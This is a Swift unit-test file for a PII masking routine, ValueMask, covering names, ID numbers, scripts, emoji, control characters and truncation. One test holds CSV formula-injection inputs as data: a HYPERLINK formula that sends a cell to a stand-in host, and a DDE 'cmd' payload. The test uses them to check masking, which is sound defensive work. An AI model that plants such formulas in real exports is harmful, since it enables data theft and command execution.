import Testing
@testable import ImpactDetect

@Suite struct ValueMaskTests {
    @Test(arguments: [
        ("2 85 07 75 123 456 78", "9 99 99 99 999 999 99"),          // NIR as printed on the card
        ("jean.dupont@mail.fr", "xxxx.xxxxxx@xxxx.xx"),
        ("DUPONT", "XXXXXX"),
        ("Jean-Pierre", "Xxxx-Xxxxxx"),
        ("O'Brien", "X'Xxxxx"),
        ("1985-07-14", "9999-99-99"),
        ("14/07/1985", "99/99/9999"),
        ("+33 6 98 76 54 32", "+99 9 99 99 99 99"),
        ("FR76 3000 6000 0112 3456 7890 189", "XX99 9999 9999 9999 9999 9999 99…"),  // 33 characters: cut
        ("", ""),
        ("   ", "   "),
    ])
    func masksASCII(value: String, expected: String) {
        #expect(ValueMask.mask(value) == expected)
    }

    @Test(arguments: [
        ("Élodie Bérénice", "Xxxxxx Xxxxxxxx"),                 // precomposed accents
        ("E\u{0301}lodie", "Xxxxxx"),                            // decomposed: the mark is dropped
        ("Müller-Lüdenscheidt", "Xxxxxx-Xxxxxxxxxxxx"),
        ("Łódź, Dvořák, Ørsted", "Xxxx, Xxxxxx, Xxxxxx"),
        ("ŒDÈME cœur", "XXXXX xxxx"),                            // ligatures are one letter each
        ("ǅemal", "Xxxxx"),                                      // title-case letter
        ("Straße", "Xxxxxx"),
        ("Αθήνα", "Xxxxx"),                                      // Greek
        ("Москва", "Xxxxxx"),                                    // Cyrillic
        ("山田 太郎", "xx xx"),                                   // no case: lower
        ("محمد", "xxxx"),                                        // Arabic (no case)
        ("٣٤٥ x² ½ Ⅻ", "999 x9 9 9"),                            // other digits and numbers
        ("N° 12, 3 €", "X° 99, 9 €"),                            // symbols kept
        ("l’arachide «ok»", "x’xxxxxxxx «xx»"),                   // other punctuation kept
        ("a\u{00A0}b\u{202F}c\u{2028}d", "x x x x"),             // NBSP, narrow NBSP, line separator
    ])
    func masksOtherScripts(value: String, expected: String) {
        #expect(ValueMask.mask(value) == expected)
    }

    /// Letters and digits written as symbols would spell a name through the mask (review):
    /// circled, parenthesised and squared letters, regional indicators, circled digits.
    @Test(arguments: [
        ("ⒹⓤⓅⓄⓃⓉ", "XxXXXX"),
        ("⒜⒝", "??"),
        ("🄳🅄", "XX"),
        ("🇩🇺", "??"),
        ("①②", "99"),
    ])
    func masksLettersWrittenAsSymbols(value: String, expected: String) {
        #expect(ValueMask.mask(value) == expected)
    }

    @Test(arguments: [
        ("Zoé 😀", "Xxx 😀"),
        ("👍🏽 ok", "👍🏽 xx"),                                     // skin-tone modifier kept
        ("👨\u{200D}👩\u{200D}👧", "👨\u{200D}👩\u{200D}👧"),         // ZWJ sequence kept whole
        ("❤\u{FE0F}", "❤"),                                      // variation selector (a mark): dropped
        ("1\u{FE0F}\u{20E3}", "9"),                               // keycap: digit, marks dropped
    ])
    func keepsEmojiAsSymbols(value: String, expected: String) {
        #expect(ValueMask.mask(value) == expected)
    }

    @Test(arguments: [
        ("a\tb\rc\nd", "x?x?x?x"),                               // C0 controls
        ("\u{0}x\u{7F}\u{1B}[31m", "?x??[99x"),                  // NUL, DEL, ESC sequence
        ("a\u{85}b\u{9B}c", "x?x?x"),                             // C1 controls (NEL, CSI)
        ("ab\u{202E}cd\u{2066}e\u{2069}", "xxxxx"),              // bidi override and isolates: dropped
        ("a\u{200B}b\u{00AD}c\u{FEFF}", "xxx"),                  // zero-width space, soft hyphen, BOM
        ("\u{E000}x\u{10FFFD}", "?x?"),                          // private use
        ("\u{0378}", "?"),                                       // unassigned
    ])
    func neutralisesControlAndFormatCharacters(value: String, expected: String) {
        #expect(ValueMask.mask(value) == expected)
    }

    /// A formula keeps its shape, `=` included: the mask is not the output safety layer (the
    /// report neutralises it like any text of the leak; see OutputSafetyTests and case
    /// `023-csv-formula-injection`).
    @Test(arguments: [
        ("=HYPERLINK(\"http://exemple.invalid/?d=\"&C2,\"Voir\")", "=XXXXXXXXX(\"xxxx://xxxxxxx.xxxxx…"),
        ("=HYPERLINK(\"h\",\"Voir\")", "=XXXXXXXXX(\"x\",\"Xxxx\")"),
        ("@SUM(A1:A9)", "@XXX(X9:X9)"),
        ("-2+3", "-9+9"),
        ("=cmd|' /C calc'!A0", "=xxx|' /X xxxx'!X9"),
    ])
    func keepsTheShapeOfAFormula(value: String, expected: String) {
        #expect(ValueMask.mask(value) == expected)
    }

    @Test func invalidUTF8BytesBecomeQuestionMarks() {
        // a, lone 0xE9 (Windows-1252 é), b, C3 then a non-continuation, (, overlong '/',
        // surrogate D800 in UTF-8, truncated 4-byte sequence at the end.
        let bytes: [UInt8] = [0x61, 0xE9, 0x62, 0xC3, 0x28, 0xC0, 0xAF, 0xED, 0xA0, 0x80, 0xF0, 0x9F, 0x98]
        let masked = bytes.withUnsafeBytes { value in
            withUnsafeTemporaryAllocation(byteCount: ValueMask.capacity, alignment: 1) { out in
                String(decoding: UnsafeRawBufferPointer(rebasing: out[0..<ValueMask.mask(value, into: out)]), as: UTF8.self)
            }
        }
        #expect(masked == "x?x?(????????")
    }

    @Test func longValuesAreCutAfter32Characters() {
        #expect(ValueMask.mask(String(repeating: "a", count: 32)) == String(repeating: "x", count: 32))
        #expect(ValueMask.mask(String(repeating: "a", count: 33)) == String(repeating: "x", count: 32) + "…")
        #expect(ValueMask.mask("Allergie connue à l'arachide, sous AVK depuis 2019")
                == "Xxxxxxxx xxxxxx x x'xxxxxxxx, xx…")
        // Characters, not bytes: 40 emoji (160 bytes) give 32 emoji and the ellipsis.
        let emoji = ValueMask.mask(String(repeating: "😀", count: 40))
        #expect(emoji == String(repeating: "😀", count: 32) + "…")
        #expect(emoji.utf8.count == ValueMask.capacity)
        // Dropped characters at the end do not count: no ellipsis.
        #expect(ValueMask.mask(String(repeating: "a", count: 32) + "\u{0301}\u{200B}") == String(repeating: "x", count: 32))
    }

    /// No letter or digit of the value survives, whatever the value (the property the masking
    /// exists for).
    @Test func noLetterOrDigitSurvives() {
        let values = ["Jean DUPONT", "2850775123456 78", "Séropositivité VIH", "FR7630006000011234567890189",
                      "rue de la Paix 75002", "Ñandú 山田 Αθήνα ١٢٣", "Dr Émile Zola-Ère"]
        for v in values {
            let m = ValueMask.mask(v)
            let letters = m.unicodeScalars.filter { $0.properties.isAlphabetic && $0 != "X" && $0 != "x" }
            let digits = m.unicodeScalars.filter { $0.properties.numericType != nil && $0 != "9" }
            #expect(letters.isEmpty && digits.isEmpty, "\(m)")
            #expect(m.unicodeScalars.count == v.unicodeScalars.count, "one character for one: \(m)")
        }
    }
}
